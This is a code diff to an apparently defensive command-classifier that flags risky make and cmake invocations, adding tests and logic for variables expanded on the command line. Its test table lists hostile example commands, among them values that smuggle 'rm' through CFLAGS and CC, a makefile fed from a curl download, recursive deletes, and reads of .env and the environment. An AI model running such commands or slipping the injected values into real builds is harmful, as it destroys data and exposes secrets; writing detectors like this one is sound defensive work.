@@ -1,5 +1,5 @@
 import { definitionOf, isProjectKind, nearFile } from '../../declared.ts';
-import { makefileFindings } from '../../makefile.ts';
+import { makefileFindings, variableFindings } from '../../makefile.ts';
 import {
 	data,
 	exec,
@@ -14,6 +14,7 @@ import {
 import { pathOf } from '../../roles.ts';
 import type { Word } from '../../word.ts';
 import { ownTool, projectScript } from '../project-script.ts';
+import { cmakeTool, isHarmlessVariable } from './cmake-tool.ts';
 import { areProjectKinds, cutShort, outputs, outside } from './tool.ts';
 
 const makeOptions: Program['options'] = {
@@ -36,9 +37,11 @@ export const makeTools = (): readonly Program[] => [
 			'make -n deploy': ['exec.project make deploy'],
 			'make nothing': ['exec make nothing'],
 			make: ['exec make'],
-			'make test SHELL=./x': ['exec make test SHELL=./x'],
+			'make test SHELL=./x': ['exec make test SHELL=./x', 'exec x'],
 			'make -f other.mk test': ['exec make test', 'read other.mk'],
 			'make -C sub test': ['exec make test'],
+			"make test CFLAGS='$(shell rm a)'": ['exec make test CFLAGS=$(shell rm a)', 'delete a'],
+			'make test CC=\'sh -c "rm a"\'': ['exec make test CC=sh -c "rm a"', 'delete a'],
 			"make --eval='x:;@rm a' x": ['opaque', 'exec make x', 'delete a'],
 			"printf 'all:\\n\\trm a\\n' | make -f -": ['exec make', 'delete a'],
 			'make -f <(curl https://e.example) x': ['exec make x', 'network e.example', 'opaque'],
@@ -85,7 +88,11 @@ export const makeTools = (): readonly Program[] => [
 			'cmake --build build --target install': ['exec cmake --build'],
 			'cmake --install build': ['exec cmake --install'],
 			'cmake -P x.cmake': ['exec x.cmake', 'exec cmake'],
-			'cmake -E rm -rf x': ['exec cmake'],
+			'cmake -E rm -rf x': ['exec cmake', 'delete x recursive'],
+			'cmake -E environment': ['exec cmake', 'secret.read the environment'],
+			'cmake -E env A=b rm x': ['exec cmake', 'delete x'],
+			'cmake -E cat .env': ['exec cmake', 'secret.read .env'],
+			'cmake -E remove_directory x': ['exec cmake', 'delete x recursive'],
 			'cmake -B build -DCMAKE_C_COMPILER=./x': ['exec.project cmake', 'opaque'],
 			'cmake -B build -DCMAKE_CXX_COMPILER=clang++': ['exec.project cmake'],
 		},
@@ -156,7 +163,9 @@ function escaped(name: string): string {
 
 /** Declared targets, without overrides: `make test CC=./x` runs another program than the project wrote. */
 function make(it: Invocation): readonly Finding[] {
-	return [...called(it), ...givenMakefiles(it)];
+	// What is set on its command line is expanded by make.
+	const set = it.operands.filter((word) => /^[\w.]+\s*[:?+!]*=/.test(word.text));
+	return [...called(it), ...givenMakefiles(it), ...set.flatMap((word) => variableFindings(word.text))];
 }
 
 /** A makefile that is typed, or fed: its recipes are judged like command lines. */
@@ -217,11 +226,6 @@ function recipes(
 	return verb !== undefined && areOwn ? ownTool(it, { script, definedIn: file.path }) : [exec(it, script)];
 }
 
-/** Variables of CMake by which a build runs another program than the project chose. */
-const loadingVariable =
-	/COMPILER|LAUNCHER|TOOLCHAIN|_INCLUDE|LINKER|PROGRAM|COMMAND|MODULE_PATH|EMULATOR|EXECUTABLE|CLANG_TIDY|CPPCHECK|_RULE|FETCHCONTENT|_FLAGS|GENERATOR|PREFIX_PATH|_DIR$/;
-const compiler = /^(g?cc|g\+\+|c\+\+|clang(\+\+)?|gfortran|ccache|sccache)(-\d+)?$/;
-
 function cmake(it: Invocation): readonly Finding[] {
 	const script = it.has('--build') ? 'cmake --build' : it.has('--install') ? 'cmake --install' : 'cmake';
 	const definedIn = definitionOf(it.scope, ['CMakeLists.txt', 'CMakePresets.json']);
@@ -233,7 +237,7 @@ function cmake(it: Invocation): readonly Finding[] {
 	);
 	const folders = [...it.values('-S', '-B', '--build'), ...(it.has('--build') ? [] : it.operands)];
 	if (definedIn === undefined || isOther || !areOwn || folders.some((word) => !isBuildFolder(word, it)))
-		return [exec(it, script)];
+		return [exec(it, script), ...cmakeTool(it)];
 	const native = it.has('--build')
 		? it.operands.filter((word) => !/^(-[jkv]?\d*|-[jk]|VERBOSE=1)$/.test(word.text))
 		: [];
@@ -249,19 +253,6 @@ function isBuildFolder(word: Word, it: Invocation): boolean {
 	// Only what it makes may lie beside the checkout.
 	const isMade = it.values('-B').includes(word);
 	return path !== undefined && (!path.startsWith('/') || (isMade && path.startsWith('/tmp/')));
-}
-
-function isHarmlessVariable(text: string): boolean {
-	const [name = '', value = ''] = text.split('=');
-	if (!loadingVariable.test(name)) return true;
-	if (/_COMPILER(_LAUNCHER)?(:\w+)?$/.test(name)) return compiler.test(value);
-	return (
-		/_FLAGS(_\w+)?(:\w+)?$/.test(name) &&
-		text
-			.slice(name.length + 1)
-			.split(' ')
-			.every((flag) => /^-([WOg][\w=+-]*|std=[\w+]+|f(?!plugin|pass)[\w=,-]+|D\w+)$/.test(flag))
-	);
 }
 
 function native(it: Invocation, isOther: boolean): readonly Finding[] {
